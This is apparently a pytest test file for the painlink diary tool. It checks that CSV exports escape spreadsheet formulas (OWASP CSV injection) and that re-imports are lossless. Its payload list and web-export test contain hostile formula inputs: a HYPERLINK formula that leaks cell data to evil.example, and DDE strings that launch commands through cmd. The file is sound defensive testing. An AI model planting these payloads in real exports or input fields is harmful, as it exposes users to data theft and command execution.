"""Exports a spreadsheet may open never start a text cell with a formula (OWASP "CSV
Injection"), and painlink's own import undoes exactly that escaping: round trips stay
lossless, including for text that really starts with an apostrophe or a minus."""

from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
import sqlalchemy as sa
from typer.testing import CliRunner

from painlink.cli import app
from painlink.diary.frames import TABLES, DiaryFrames
from painlink.interop.csv_diary import read_diary_folder, write_diary_folder
from painlink.store import tables as t
from painlink.store.store import Store
from tests.hostile_run import patient_client, web_app

#: every OWASP formula start, the escape character itself, and ordinary text
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"help")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'quoted from the start",
    "''two apostrophes",
    "'=already escaped by hand",
    "plain text, with a comma",
    "-",
]
FORMULA = re.compile(r"^[=+\-@\t\r]")


def _free_text(spec_name: str) -> dict[str, int]:
    """Free-text column → its longest value."""
    spec = next(s for s in TABLES if s.name == spec_name)
    return {
        f.name: f.max_length or 10_000
        for f in spec.fields
        if f.kind == "str" and f.pattern is None and f.name != "time_zone"
    }


def _hostile_diary(folder: Path) -> DiaryFrames:
    """The simulated diary with every free-text cell replaced by a formula payload."""
    diary = read_diary_folder(folder)
    tables = {"factors": diary.factors}
    payload = itertools.cycle(PAYLOADS)
    for spec in TABLES:
        frame = getattr(diary, spec.name)
        for column, longest in _free_text(spec.name).items():
            if frame.height:
                values = [next(payload)[:longest] for _ in range(frame.height)]
                frame = frame.with_columns(pl.Series(column, values, dtype=pl.String))
        tables[spec.name] = frame
    return DiaryFrames.from_tables(**tables).sorted()


def _assert_same(a: DiaryFrames, b: DiaryFrames) -> None:
    for name in [spec.name for spec in TABLES] + ["factors"]:
        left, right = getattr(a, name), getattr(b, name)
        assert left.equals(right), f"{name} differs after the round trip"


def _text_cells_safe(name: str, text: str) -> None:
    """No cell starts with a formula character unless it is a number (-4 is -4)."""
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if FORMULA.match(cell):
                try:
                    float(cell)
                except ValueError:
                    pytest.fail(f"{name}: text cell {cell!r} starts with a formula character")


def test_every_free_text_column_is_covered(simulated_folder: Path) -> None:
    diary = _hostile_diary(simulated_folder)
    covered = {
        (spec.name, c)
        for spec in TABLES
        for c in _free_text(spec.name)
        if getattr(diary, spec.name).height
    }
    assert ("attacks", "notes") in covered and ("medications", "drug") in covered
    assert len(covered) >= 10


def test_folder_round_trip_is_lossless_and_spreadsheet_safe(
    simulated_folder: Path, tmp_path: Path
) -> None:
    diary = _hostile_diary(simulated_folder)
    write_diary_folder(diary, tmp_path / "out")
    for file in (tmp_path / "out").glob("*.csv"):
        _text_cells_safe(file.name, file.read_text(encoding="utf-8"))
    notes = (tmp_path / "out" / "attacks.csv").read_text()
    assert "'=1+1" in notes and ",''quoted from the start" in notes and "'''two" in notes
    _assert_same(read_diary_folder(tmp_path / "out"), diary)


def test_negative_numbers_are_not_text(tmp_path: Path) -> None:
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "patients.csv").write_text("patient_id,display_name\nP1,-Ana\n")
    (folder / "days.csv").write_text("patient_id,date,temperature_c\nP1,2024-01-05,-4.5\n")
    diary = read_diary_folder(folder)
    write_diary_folder(diary, tmp_path / "out")
    assert "P1,2024-01-05," in (out := (tmp_path / "out" / "days.csv").read_text())
    assert ",-4.5" in out and "'-4.5" not in out
    assert "'-Ana" in (tmp_path / "out" / "patients.csv").read_text()
    assert read_diary_folder(tmp_path / "out").patients["display_name"][0] == "-Ana"


def test_database_export_import_round_trip(
    simulated_folder: Path, tmp_path: Path, db_url: str
) -> None:
    diary = _hostile_diary(simulated_folder)
    write_diary_folder(diary, tmp_path / "in")
    runner = CliRunner()
    result = runner.invoke(app, ["import", str(tmp_path / "in"), "--db", db_url])
    assert result.exit_code == 0, result.output
    result = runner.invoke(app, ["export", "--out", str(tmp_path / "out"), "--db", db_url])
    assert result.exit_code == 0, result.output
    for file in (tmp_path / "out").glob("*.csv"):
        _text_cells_safe(file.name, file.read_text(encoding="utf-8"))
    _assert_same(read_diary_folder(tmp_path / "out"), diary)
    Store(db_url).engine.dispose()


def test_the_day_table_csv_is_spreadsheet_safe(tmp_path: Path) -> None:
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "patients.csv").write_text("patient_id\n-P1\n")
    (folder / "days.csv").write_text("patient_id,date,temperature_c\n-P1,2024-01-05,-4.5\n")
    db = f"sqlite:///{tmp_path / 'x.db'}"
    runner = CliRunner()
    assert runner.invoke(app, ["import", str(folder), "--db", db]).exit_code == 0
    out = tmp_path / "days.csv"
    assert runner.invoke(app, ["days", "--db", db, "--out", str(out)]).exit_code == 0
    _text_cells_safe("days.csv", out.read_text())


def test_the_account_zip_export_is_spreadsheet_safe(tmp_path: Path) -> None:
    web = web_app(f"sqlite:///{tmp_path / 'web.db'}")
    c, _, _ = patient_client(web, display_name="=cmd|' /C calc'!A0")
    pid = c.get("/api/me").json()["patient_id"]
    with web.state.store.engine.begin() as conn:
        conn.execute(
            t.attacks.insert().values(
                patient_id=pid,
                attack_id="a1",
                start=sa.func.current_timestamp(),
                notes="@SUM(1+1)*cmd|' /C calc'!A0",
            )
        )
    archive = zipfile.ZipFile(io.BytesIO(c.get("/account/export").content))
    for name in archive.namelist():
        if name.endswith(".csv"):
            _text_cells_safe(name, archive.read(name).decode("utf-8"))
    assert "'@SUM" in archive.read("attacks.csv").decode()
